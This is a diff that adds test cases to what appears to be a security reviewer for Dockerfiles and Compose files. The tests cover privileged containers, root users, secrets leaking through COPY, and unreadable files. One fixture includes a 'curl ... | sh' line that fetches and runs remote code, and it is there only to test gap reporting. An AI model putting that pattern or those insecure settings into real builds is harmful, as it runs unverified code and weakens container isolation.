@@ -118,6 +118,90 @@ describe('what a pull request introduces', () => {
     expect(told(moved)).toEqual([]);
   });
 
+  test('a danger that goes to another service, or to a file that was there, is introduced', async () => {
+    const services = (privileged: string) =>
+      ['web', 'db']
+        .map(
+          (name) => `  ${name}:\n    image: example/${name}:1\n${name === privileged ? '    privileged: true\n' : ''}`,
+        )
+        .join('');
+    const compose = (privileged: string) => `services:\n${services(privileged)}`;
+    const given = await reviewOf({ 'compose.yaml': compose('db') }, { 'compose.yaml': compose('web') });
+    expect(told(given)).toEqual([
+      'introduced container/privileged compose.yaml:4',
+      'fixed container/privileged compose.yaml:6',
+    ]);
+    const sound = 'FROM debian:13-slim\nUSER 1000\n';
+    const root = 'FROM debian:13-slim\nUSER root\n';
+    const swapped = await reviewOf(
+      { Dockerfile: sound, 'test/Dockerfile': root },
+      { Dockerfile: root, 'test/Dockerfile': sound },
+    );
+    expect(told(swapped)).toEqual([
+      'introduced dockerfile/root-user Dockerfile:2',
+      'fixed dockerfile/root-user test/Dockerfile:2',
+    ]);
+  });
+
+  test('what a Compose file builds is reviewed, whatever it is called', async () => {
+    const compose = 'services:\n  web:\n    build: {context: ., dockerfile: build/image.txt}\n';
+    const image = 'FROM debian:13-slim\nUSER 1000\n';
+    const before = { 'compose.yaml': compose, 'build/image.txt': image };
+    const after = { ...before, 'build/image.txt': image.replace('1000', 'root') };
+    expect(introduced(await reviewOf(before, after))).toEqual(['introduced dockerfile/root-user build/image.txt:2']);
+    // As long as nobody builds it, it is a text like any other.
+    const alone = await reviewOf({ 'build/image.txt': image }, { 'build/image.txt': after['build/image.txt'] });
+    expect(told(alone)).toEqual([]);
+  });
+
+  test.each([
+    ['.dockerignore', { '.dockerignore': 'id_*\n' }, { '.dockerignore': '*.log\n' }],
+    ['an ignore file of its own', { '.dockerignore': 'id_*\n' }, { 'Dockerfile.dockerignore': '*.log\n' }],
+    ['a secret beside it', { '.dockerignore': '*.log\n' }, { id_rsa: 'x\n' }],
+  ])('what changes which secrets an unchanged COPY takes along is told there: %s', async (_, base, change) => {
+    const before: Files = { Dockerfile: 'FROM debian:13-slim\nCOPY . .\nUSER 1000\n', ...base };
+    const secret: Files = 'id_rsa' in change ? {} : { id_rsa: 'x\n' };
+    const result = await reviewOf({ ...before, ...secret }, { ...before, ...secret, ...change });
+    expect(told(result)).toEqual(['introduced dockerfile/unfiltered-context Dockerfile:2']);
+  });
+
+  test('what a changed file points at and nobody could read is a gap', async () => {
+    const compose = 'services:\n  web:\n    extends: {file: base.txt, service: web}\n';
+    const long = `services:\n  web:\n    image: example/web:1\n${'#'.repeat(1024 * 1024)}\n`;
+    const twice = 'services:\n  web:\n    privileged: true\n    privileged: false\n';
+    const gapsOf = async (text: string) =>
+      (await reviewOf({}, { 'compose.yaml': compose, 'base.txt': text })).gaps.map(({ reason, blocking }) => [
+        reason,
+        blocking,
+      ]);
+    expect(await gapsOf(long)).toEqual([
+      ['compose.yaml points at it, and it is larger than 1 MiB, so it was not reviewed.', true],
+    ]);
+    expect(await gapsOf('\0')).toEqual([['compose.yaml points at it, and it could not be read as text.', true]]);
+    expect(await gapsOf(twice)).toEqual([
+      [
+        'compose.yaml points at it, and it cannot be read (line 4: The key `privileged` stands twice in one mapping).',
+        true,
+      ],
+    ]);
+    const unchanged = await reviewOf(
+      { 'compose.yaml': compose, 'base.txt': twice },
+      { 'compose.yaml': compose, 'base.txt': twice, Dockerfile: 'FROM scratch\n' },
+    );
+    expect(unchanged.gaps).toEqual([]);
+  });
+
+  test.each([
+    ['sudo '.repeat(40), 'nested too deeply to be read'],
+    [`${'a && && b\n'.repeat(12)}`, 'too broken to be read to its end'],
+  ])('commands that no rule saw are a gap: %j', async (before, why) => {
+    const head = `FROM debian:13-slim\nRUN <<EOF\n${before}curl https://example.com/x | sh\nEOF\nUSER 1000\n`;
+    const { gaps } = await reviewOf({}, { Dockerfile: head });
+    expect(gaps.map(({ path, reason, blocking }) => [path, reason, blocking])).toEqual([
+      ['Dockerfile', `The commands of RUN in line 3 were not all reviewed: they are ${why}.`, true],
+    ]);
+  });
+
   test('two equal findings are counted', async () => {
     const twice = `${bad}EXPOSE 22\n`;
     expect(introduced(await reviewOf({ Dockerfile: bad }, { Dockerfile: twice }))).toEqual([
